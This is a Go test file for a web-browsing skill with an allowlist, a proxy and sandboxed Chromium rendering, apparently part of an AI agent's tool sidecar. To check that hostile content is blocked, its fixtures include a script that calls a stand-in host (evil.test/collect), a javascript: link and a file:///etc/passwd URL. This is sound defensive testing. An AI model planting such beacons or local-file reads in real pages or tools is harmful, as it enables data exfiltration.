package browse

import (
	"context"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/istota/istota/sidecar/internal/approval"
	"github.com/istota/istota/sidecar/internal/netproxy"
	"github.com/istota/istota/sidecar/internal/render"
	"github.com/istota/istota/sidecar/internal/sandbox/sandboxtest"
	"github.com/istota/istota/sidecar/internal/sandbox/testrunner"
	"github.com/istota/istota/sidecar/internal/skills"
	"github.com/istota/istota/sidecar/internal/skills/skillstest"
	"github.com/istota/istota/sidecar/internal/webfetch"
)

const page = `<!DOCTYPE html>
<html><head><title>Kayak  trips</title>
<style>body { color: red }</style>
<script>var secret = "do not show";</script>
</head>
<body>
<nav><a href="/home">Home</a> <a href="/about">About us</a></nav>
<header><h1>Site banner</h1></header>
<main>
  <h1>River trips</h1>
  <p>Paddle the   <b>Danube</b>
     in spring.</p>
  <ul><li><p>Day one</p></li><li>Day two</li></ul>
  <p hidden>Hidden text</p>
  <div style="display: none">Invisible</div>
  <pre>line 1
  line 2</pre>
  <p>See <a href="/booking?x=1#top">booking</a>, <a href="https://example.org/map">the map</a>,
     <a href="javascript:alert(1)">a trap</a> and <a href="mailto:a@b.c">mail</a>.</p>
  <script>document.write("also hidden")</script>
  <form><input value="form text"><button>Send</button></form>
</main>
<footer>Copyright footer</footer>
</body></html>`

func TestMain(m *testing.M) {
	code := m.Run()
	sandboxtest.Cleanup()
	os.Exit(code)
}

func server(t *testing.T) (*httptest.Server, string) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/trips":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Write([]byte(page))
		case "/latin1":
			w.Header().Set("Content-Type", "text/html; charset=iso-8859-1")
			w.Write([]byte("<html><body><p>Gr\xfc\xdfe aus K\xf6ln</p></body></html>"))
		case "/notes.txt":
			w.Header().Set("Content-Type", "text/plain")
			w.Write([]byte("plain\x07 text\nsecond line"))
		case "/image.png":
			w.Header().Set("Content-Type", "image/png")
			w.Write([]byte("\x89PNG"))
		case "/long":
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte("<p>" + strings.Repeat("word ", 1000) + "</p>"))
		case "/moved":
			http.Redirect(w, r, "/trips", http.StatusMovedPermanently)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	u, _ := url.Parse(srv.URL)
	return srv, u.Host
}

func newSkill(t *testing.T, allow, allowPrivate []string) (skills.Skill, *skillstest.Events) {
	t.Helper()
	rules, err := netproxy.ParseRules(allow)
	if err != nil {
		t.Fatal(err)
	}
	ev := &skillstest.Events{}
	sk, err := Skill(Options{Fetcher: webfetch.New(webfetch.Options{Allow: rules, AllowPrivate: allowPrivate}), Events: ev})
	if err != nil {
		t.Fatal(err)
	}
	return sk, ev
}

func invoke(sk skills.Skill, args ...string) skills.Result {
	return sk.Run(context.Background(), skills.Invocation{UserID: "alice", TaskID: 7, Args: args})
}

func TestBrowseReadablePage(t *testing.T) {
	srv, hp := server(t)
	// Loopback is allowed for this test's server only, as an admin would allow an
	// intranet host: in the allowlist and in allow_private.
	sk, ev := newSkill(t, []string{hp}, []string{hp})
	r := invoke(sk, srv.URL+"/moved")
	if r.ExitCode != 0 {
		t.Fatalf("exit %d: %s %v", r.ExitCode, r.Stderr, r.Err)
	}
	out := string(r.Stdout)
	for _, w := range []string{
		"# Kayak trips\n", "URL: " + srv.URL + "/trips\n", "# River trips", "Paddle the Danube in spring.",
		"- Day one", "- Day two", "line 1\n  line 2",
		"1. booking — " + srv.URL + "/booking?x=1\n", "2. the map — https://example.org/map\n",
	} {
		if !strings.Contains(out, w) {
			t.Errorf("output lacks %q:\n%s", w, out)
		}
	}
	for _, bad := range []string{"do not show", "also hidden", "color: red", "Hidden text", "Invisible", "Copyright", "Site banner", "About us", "form text", "Send", "javascript", "mailto"} {
		if strings.Contains(out, bad) {
			t.Errorf("output has %q:\n%s", bad, out)
		}
	}
	if got := ev.All(); !strings.Contains(got, "fetch: browse GET "+srv.URL+"/trips → 200 text/html") {
		t.Errorf("events = %q", got)
	}

	r = invoke(sk, "--no-links", srv.URL+"/trips")
	if strings.Contains(string(r.Stdout), "## Links") {
		t.Errorf("--no-links printed links")
	}
	r = invoke(sk, srv.URL+"/latin1")
	if !strings.Contains(string(r.Stdout), "Grüße aus Köln") {
		t.Errorf("latin1 page: %q", r.Stdout)
	}
	r = invoke(sk, srv.URL+"/notes.txt")
	if r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "plain text\nsecond line") {
		t.Errorf("text file: %d %q", r.ExitCode, r.Stdout)
	}
	r = invoke(sk, "--max-chars", "100", srv.URL+"/long")
	if !strings.Contains(string(r.Stdout), "cut: 4899 more characters") {
		t.Errorf("long page: %q", r.Stdout)
	}
	r = invoke(sk, srv.URL+"/image.png")
	if r.ExitCode != 1 || !strings.Contains(string(r.Stderr), "image/png, not a page") {
		t.Errorf("image: %d %q", r.ExitCode, r.Stderr)
	}
	r = invoke(sk, srv.URL+"/missing")
	if r.ExitCode != 1 || !strings.Contains(string(r.Stderr), "404") {
		t.Errorf("missing: %d %q", r.ExitCode, r.Stderr)
	}
	if got := ev.All(); !strings.Contains(got, "/missing failed: ") {
		t.Errorf("the failed fetch is not in the events: %q", got)
	}
}

func TestBrowseRefusesPrivateAddressWithoutAllowEntry(t *testing.T) {
	srv, hp := server(t)
	sk, ev := newSkill(t, []string{hp}, nil) // allowlisted, but not allowed to be private
	r := invoke(sk, srv.URL+"/trips")
	if r.ExitCode != 1 || !strings.Contains(string(r.Stderr), "refused") || !strings.Contains(string(r.Stderr), "loopback") {
		t.Fatalf("exit %d, stderr %q", r.ExitCode, r.Stderr)
	}
	if len(r.Stdout) != 0 {
		t.Errorf("stdout %q", r.Stdout)
	}
	if got := ev.All(); !strings.Contains(got, "fetch: browse "+srv.URL+"/trips refused: ") {
		t.Errorf("events = %q", got)
	}
}

func TestBrowseRefusesHostsOutsideTheAllowlist(t *testing.T) {
	srv, hp := server(t)
	sk, ev := newSkill(t, []string{"example.org:443"}, []string{hp})
	r := invoke(sk, srv.URL+"/trips")
	if r.ExitCode != 1 || !strings.Contains(string(r.Stderr), hp+" is not in the network allowlist") {
		t.Fatalf("exit %d, stderr %q", r.ExitCode, r.Stderr)
	}
	if got := ev.All(); !strings.Contains(got, "refused") {
		t.Errorf("events = %q", got)
	}
}

func TestBrowseUsage(t *testing.T) {
	sk, _ := newSkill(t, []string{"example.org:443"}, nil)
	for _, args := range [][]string{
		nil, {"--max-chars"}, {"--max-chars", "0", "https://example.org"}, {"--max-chars", "x", "https://example.org"},
		{"--bogus", "https://example.org"}, {"https://example.org", "https://example.net"},
		{"ftp://example.org/file"}, {"file:///etc/passwd"}, {"https://user:pw@example.org/"}, {"http://%zz"},
	} {
		r := invoke(sk, args...)
		if r.ExitCode != 2 || len(r.Stderr) == 0 {
			t.Errorf("%q: exit %d, stderr %q", args, r.ExitCode, r.Stderr)
		}
	}
}

func TestReadableBaseAndPrefixes(t *testing.T) {
	base, _ := url.Parse("https://example.org/a/b.html")
	p, err := Readable([]byte(`<html><head><base href="https://cdn.example.org/x/"></head><body>
		<article><h2>Title</h2><blockquote>Quote</blockquote><a href="y">rel</a><a href="y">dup</a><a href="#top">self</a></article>
		<article>Second article</article></body></html>`), "text/html", base)
	if err != nil {
		t.Fatal(err)
	}
	// Two articles: the whole body is read.
	for _, w := range []string{"## Title", "> Quote", "Second article"} {
		if !strings.Contains(p.Text, w) {
			t.Errorf("text lacks %q: %q", w, p.Text)
		}
	}
	if len(p.Links) != 2 || p.Links[0].URL != "https://cdn.example.org/x/y" || p.Links[1].URL != "https://cdn.example.org/x/" {
		t.Errorf("links = %+v", p.Links)
	}
}

// TestClassify: a fetch asks first (external tier) whatever the order of its options.
func TestClassify(t *testing.T) {
	for _, args := range [][]string{{"https://example.org/a"}, {"--no-links", "https://example.org/a"}, {"--max-chars", "10", "https://example.org/a"}} {
		a := classify(context.Background(), skills.Invocation{Args: args})
		if a.Tier != approval.TierExternal || a.Summary != "Fetch the web page https://example.org/a" {
			t.Errorf("%q: %+v", args, a)
		}
	}
	if a := classify(context.Background(), skills.Invocation{Args: []string{"--bogus"}}); a.Tier != approval.TierRead {
		t.Errorf("a call refused as usage: %+v", a)
	}
}

const appPage = `<!DOCTYPE html><html><head><title>Ferry</title></head><body>
<div id="root"></div><noscript>This app needs JavaScript.</noscript>
<script>
document.getElementById("root").innerHTML = "<h1>Timetable</h1><p>Boats leave at " + (4 + 5) + " o'clock.</p>";
fetch("http://evil.test/collect?d=1").catch(function () {});
</script></body></html>`

func renderServer(t *testing.T) (*httptest.Server, string) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.URL.Path {
		case "/app":
			w.Write([]byte(appPage))
		case "/trips":
			w.Write([]byte(page))
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	u, _ := url.Parse(srv.URL)
	return srv, u.Host
}

// newRenderingSkill is the skill with a real renderer: Chromium in a real sandbox whose
// only way out is a proxy with the same allowlist.
func newRenderingSkill(t *testing.T, hp string) (skills.Skill, *skillstest.Events) {
	t.Helper()
	if _, err := os.Stat(render.DefaultChromium); err != nil {
		t.Fatalf("this test needs Debian's chromium (scripts/deps.sh): %v", err)
	}
	rules, err := netproxy.ParseRules([]string{hp})
	if err != nil {
		t.Fatal(err)
	}
	runner, _ := testrunner.Runner(t)
	r, err := render.New(render.Options{Runner: runner, Proxy: netproxy.Options{Allow: rules, AllowPrivate: []string{hp}}, Timeout: 45 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	ev := &skillstest.Events{}
	sk, err := Skill(Options{Fetcher: webfetch.New(webfetch.Options{Allow: rules, AllowPrivate: []string{hp}}), Events: ev, Renderer: r})
	if err != nil {
		t.Fatal(err)
	}
	return sk, ev
}

// TestBrowseRendersScripts: a page whose text a script writes reads empty when fetched,
// and, where rendering is enabled, is rendered by itself and read in full; the
// browser's requests, the refused one too, are in the task's events.
func TestBrowseRendersScripts(t *testing.T) {
	srv, hp := renderServer(t)

	plain, _ := newSkill(t, []string{hp}, []string{hp})
	r := invoke(plain, srv.URL+"/app")
	if r.ExitCode != 0 || strings.Contains(string(r.Stdout), "Boats leave") {
		t.Fatalf("without rendering: exit %d, %q", r.ExitCode, r.Stdout)
	}
	r = invoke(plain, "--render", srv.URL+"/app")
	if r.ExitCode != 1 || !strings.Contains(string(r.Stderr), "not enabled on this server") {
		t.Fatalf("--render without a renderer: exit %d, %q", r.ExitCode, r.Stderr)
	}

	sk, ev := newRenderingSkill(t, hp)
	r = invoke(sk, srv.URL+"/app")
	out := string(r.Stdout)
	if r.ExitCode != 0 {
		t.Fatalf("exit %d: %s", r.ExitCode, r.Stderr)
	}
	for _, w := range []string{"(rendered with JavaScript in a headless browser)", "# Timetable", "Boats leave at 9 o'clock."} {
		if !strings.Contains(out, w) {
			t.Errorf("output lacks %q:\n%s", w, out)
		}
	}
	got := ev.All()
	for _, w := range []string{
		"fetch: browse GET " + srv.URL + "/app → 200 text/html",
		"fetch: browse render " + srv.URL + "/app → document of ",
		"fetch: browse render: GET " + srv.URL + "/app allowed",
		"fetch: browse render: GET http://evil.test/collect?d=1 refused (host not allowed)",
	} {
		if !strings.Contains(got, w) {
			t.Errorf("events lack %q:\n%s", w, got)
		}
	}

	// A page with text of its own is not rendered unless asked.
	before := strings.Count(ev.All(), "browse render")
	r = invoke(sk, srv.URL+"/trips")
	if r.ExitCode != 0 || strings.Contains(string(r.Stdout), "rendered with JavaScript") || strings.Count(ev.All(), "browse render") != before {
		t.Errorf("a static page was rendered: %q\n%s", r.Stdout, ev.All())
	}
	r = invoke(sk, "--render", srv.URL+"/trips")
	if r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "rendered with JavaScript") || !strings.Contains(string(r.Stdout), "Paddle the Danube in spring.") {
		t.Errorf("--render: exit %d %q", r.ExitCode, r.Stdout)
	}
}
